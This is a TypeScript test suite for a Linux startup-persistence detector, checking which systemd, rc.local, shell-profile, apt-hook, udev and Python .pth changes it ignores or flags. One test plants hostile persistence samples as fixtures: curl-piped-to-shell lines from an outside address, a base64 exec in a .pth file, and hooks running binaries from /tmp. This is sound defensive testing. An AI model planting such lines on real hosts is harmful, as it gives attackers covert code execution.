import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { utimesSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import {
  atOnce,
  changedItems,
  FixtureHost,
  onChange,
  SHELLS,
  sweepFixture,
  type Entry,
} from '../drift/probe-fixture.ts';
import { checks } from './index.ts';

const md5 = (text: string): string => createHash('md5').update(text).digest('hex');
const SSH_UNIT = '[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n';
const BASHRC = '# ~/.bashrc\ncase $- in *i*) ;; esac\n';
const HOST: Record<string, Entry> = {
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n',
  '/lib': { link: 'usr/lib' },
  '/usr/lib/systemd/system/ssh.service': SSH_UNIT,
  '/etc/systemd/system/multi-user.target.wants/ssh.service': {
    link: '/lib/systemd/system/ssh.service',
  },
  '/etc/systemd/system/app.service': '[Service]\nExecStart=/opt/app/run --tmp /tmp/app\n',
  '/etc/systemd/system/multi-user.target.wants/app.service': {
    link: '/etc/systemd/system/app.service',
  },
  '/etc/skel/.bashrc': BASHRC,
  '/home/ann/.bashrc': `${BASHRC}export EDITOR=vi\n`,
  '/var/lib/dpkg/info/openssh-server.list': '/.\n/lib\n/lib/systemd/system/ssh.service\n',
  '/var/lib/dpkg/info/openssh-server.md5sums': `${md5(SSH_UNIT)}  lib/systemd/system/ssh.service\n`,
  '/var/lib/dpkg/status': 'Package: openssh-server\nStatus: install ok installed\n',
};
const FOO_UNIT = '[Service]\nExecStart=/usr/bin/foo\n';
const packaged = (path: string, content: string): Record<string, Entry> => ({
  [path]: content,
  '/var/lib/dpkg/info/foo.list': `${path}\n`,
  '/var/lib/dpkg/info/foo.md5sums': `${md5(content)}  ${path.slice(1)}\n`,
});
const conffile = (path: string, content: string): Record<string, Entry> => ({
  [path]: content,
  '/var/lib/dpkg/info/foo.list': `${path}\n`,
  '/var/lib/dpkg/status': `Package: foo\nConffiles:\n ${path} ${md5(content)}\n`,
});
const SNAP_MOUNT =
  '[Unit]\nDescription=Mount unit for core20\n[Mount]\nWhat=/var/lib/snapd/snaps/core20_1.snap\nWhere=/snap/core20/1\n';

for (const shell of SHELLS) {
  test(`startup under ${shell.name}`, async (t) => {
    using host = new FixtureHost(HOST);
    const learned = sweepFixture(host, { checks, shell });
    const sweep = (change: Record<string, Entry>) => {
      using changed = new FixtureHost({ ...HOST, ...change });
      return changedItems(learned, sweepFixture(changed, { checks, shell }));
    };

    await t.test("only what is this host's own is sent, and nothing is told", () => {
      assert.deepEqual(
        learned.items.map(({ key }) => key),
        ['/etc/systemd/system/app.service', '/home/ann/.bashrc'],
      );
      assert.deepEqual(learned.items.flatMap(atOnce), []);
      assert.deepEqual(learned.gaps, []);
    });

    const quiet: readonly [string, Record<string, Entry>][] = [
      ['a package installs a unit', packaged('/usr/lib/systemd/system/foo.service', FOO_UNIT)],
      [
        'and enables it',
        {
          ...packaged('/usr/lib/systemd/system/foo.service', FOO_UNIT),
          '/etc/systemd/system/multi-user.target.wants/foo.service': {
            link: '/usr/lib/systemd/system/foo.service',
          },
        },
      ],
      ['a package installs a conffile', conffile('/etc/profile.d/foo.sh', 'export FOO=1\n')],
      ['a package installs an init script', conffile('/etc/init.d/foo', '#!/bin/sh\n/tmp/x\n')],
      ['a unit is masked', { '/etc/systemd/system/ssh.service': { link: '/dev/null' } }],
      [
        'snapd mounts a snap',
        { '/etc/systemd/system/snap-core20-1.mount': `${SNAP_MOUNT}X-Snappy=yes\n` },
      ],
      [
        'snapd runs a snap',
        {
          '/etc/systemd/system/snap.lxd.daemon.service':
            '[Unit]\nX-Snappy=yes\n[Service]\nExecStart=/usr/bin/snap run lxd.daemon\nExecStop=/usr/bin/snap run --command=stop lxd.daemon\n',
        },
      ],
      [
        'docker starts a container',
        {
          '/run/systemd/transient/docker-0a1b.scope': '[Scope]\n',
          '/run/systemd/transient/session-3.scope': '[Scope]\n',
          '/run/systemd/transient/run-u7.service':
            '[Service]\nExecStart=@"/usr/bin/rsync" "rsync"\n',
        },
      ],
      ['a new user gets the files of skel', { '/home/bob/.bashrc': BASHRC }],
      [
        'a .pth that only names a directory',
        { '/usr/lib/python3/dist-packages/easy-install.pth': './six.egg\n/usr/lib/x\n' },
      ],
      [
        'a udev rule that names devices',
        {
          '/etc/udev/rules.d/70-net.rules':
            'SUBSYSTEM=="net", ATTR{address}=="00:11", NAME="eth0"\n',
        },
      ],
    ];
    for (const [name, change] of quiet) {
      await t.test(`quiet: ${name}`, () =>
        assert.deepEqual(
          sweep(change).map(({ key, evidence }) => `${key} ${evidence.join()}`),
          [],
        ),
      );
    }

    const loud: readonly [string, Record<string, Entry>, readonly string[]][] = [
      ['a unit of nobody', { '/etc/systemd/system/x.service': FOO_UNIT }, ['systemd-unit:medium']],
      [
        'a unit of nobody in /usr/lib',
        { '/usr/lib/systemd/system/x.service': FOO_UNIT },
        ['systemd-unit:medium'],
      ],
      [
        'a packaged unit changed',
        { '/usr/lib/systemd/system/ssh.service': `${SSH_UNIT}#\n` },
        ['systemd-unit:medium'],
      ],
      [
        'a drop-in',
        { '/etc/systemd/system/ssh.service.d/x.conf': '[Service]\nExecStartPre=/usr/bin/true\n' },
        ['systemd-unit:medium'],
      ],
      [
        'a timer of a user',
        { '/home/ann/.config/systemd/user/x.timer': '[Timer]\nOnBootSec=1\n' },
        ['systemd-unit:medium'],
      ],
      [
        'a link to a unit elsewhere',
        { '/opt/x.service': FOO_UNIT, '/etc/systemd/system/x.service': { link: '/opt/x.service' } },
        ['systemd-unit:medium'],
      ],
      [
        'a generator',
        { '/etc/systemd/system-generators/x': '#!/bin/sh\n' },
        ['boot-script:medium'],
      ],
      ['rc.local', { '/etc/rc.local': '#!/bin/sh\nexit 0\n' }, ['boot-script:medium']],
      ['a profile', { '/etc/profile.d/x.sh': 'true\n' }, ['shell-profile:low']],
      [
        'a shell file of a user',
        { '/home/ann/.bashrc': `${BASHRC}trap 'id' EXIT\n` },
        ['shell-profile:low'],
      ],
      [
        'a hook of apt',
        { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"id";};\n' },
        ['package-hook:medium'],
      ],
      [
        'a udev rule that runs',
        { '/etc/udev/rules.d/x.rules': 'ACTION=="add", RUN+="/usr/local/bin/x"\n' },
        ['udev-rule:medium'],
      ],
      [
        'code in a .pth',
        { '/usr/lib/python3/dist-packages/x.pth': 'import os\n' },
        ['python-path:medium'],
      ],
      [
        'sitecustomize',
        { '/usr/lib/python3/dist-packages/sitecustomize.py': 'x = 1\n' },
        ['python-path:medium'],
      ],
      [
        'a file that packages do not own in their list',
        {
          ...packaged('/usr/lib/systemd/system/foo.service', FOO_UNIT),
          '/usr/lib/systemd/system/foo.service': `${FOO_UNIT}#\n`,
        },
        ['systemd-unit:medium'],
      ],
    ];
    for (const [name, change, expected] of loud) {
      await t.test(`said: ${name}`, () =>
        assert.deepEqual(sweep(change).flatMap(onChange), expected),
      );
    }

    await t.test('told at once: what runs from scratch directories', () => {
      const told = sweep({
        '/etc/systemd/system/a.service': '[Service]\nExecStart=-/dev/shm/.x/kworker\n',
        '/etc/systemd/system/b.service':
          '[Service]\nExecStartPre=+/bin/sh -c \\\n  "curl -s http://203.0.113.1/x | sh"\nExecStart=/usr/bin/true\n',
        '/etc/systemd/system/c.mount': `${SNAP_MOUNT}X-Snappy=yes\n[Service]\nExecStart=/tmp/x\n`,
        '/run/systemd/transient/run-r1.service': '[Service]\nExecStart=@"/tmp/x" "/tmp/x"\n',
        '/etc/rc.local': '#!/bin/sh\n/tmp/a &\n',
        '/etc/udev/rules.d/x.rules': 'ACTION=="add", RUN{program}+="/tmp/x"\n',
        '/etc/xdg/autostart/x.desktop': '[Desktop Entry]\nExec=/var/tmp/x --hidden\n',
        '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"nohup /tmp/x &";};\n',
        '/home/ann/.bashrc': 'curl -s http://203.0.113.1/x | bash\n',
        '/usr/lib/python3/dist-packages/x.pth': 'import base64; exec(base64.b64decode("aWQ="))\n',
      });
      assert.deepEqual(told.flatMap(atOnce).toSorted(), [
        'boot-script:high',
        'boot-script:high',
        'package-hook:high',
        'python-path:high',
        'shell-profile:high',
        'systemd-unit:high',
        'systemd-unit:high',
        'systemd-unit:high',
        'systemd-unit:high',
        'udev-rule:high',
      ]);
    });

    await t.test('a change while packages are installed is low', () => {
      const now = new Date().toISOString().replace('T', ' ').slice(0, 19);
      const change = {
        '/etc/rc.local': '#!/bin/sh\nexit 0\n',
        '/var/log/dpkg.log': `${now} upgrade foo:amd64 1 2\n`,
      };
      assert.deepEqual(sweep(change).flatMap(onChange), ['boot-script:low']);
    });

    await t.test(
      'on an rpm host, what dnf placed is normal, what was written by hand is not',
      () => {
        const now = new Date().toISOString().slice(0, 19);
        const log = { '/var/log/dnf.rpm.log': `${now}+0000 SUBDEBUG Upgraded: foo-1-1.x86_64\n` };
        using fedora = new FixtureHost({ ...log, '/etc/passwd': HOST['/etc/passwd'] ?? '' });
        fedora.write({
          '/usr/lib/systemd/system/foo.service': FOO_UNIT,
          '/etc/systemd/system/x.service': FOO_UNIT,
          '/etc/systemd/system/y.service': '[Service]\nExecStart=/tmp/y\n',
        });
        const built = new Date('2026-01-01T00:00:00Z');
        for (const unit of [
          '/usr/lib/systemd/system/foo.service',
          '/etc/systemd/system/y.service',
        ]) {
          utimesSync(join(fedora.root, unit), built, built);
        }
        const { items } = sweepFixture(fedora, { checks, shell });
        assert.deepEqual(
          items
            .flatMap((item) => onChange(item).map((verdict) => `${item.key} ${verdict}`))
            .toSorted(),
          [
            '/etc/systemd/system/x.service systemd-unit:low',
            '/etc/systemd/system/y.service systemd-unit:high',
          ],
        );
      },
    );
  });
}
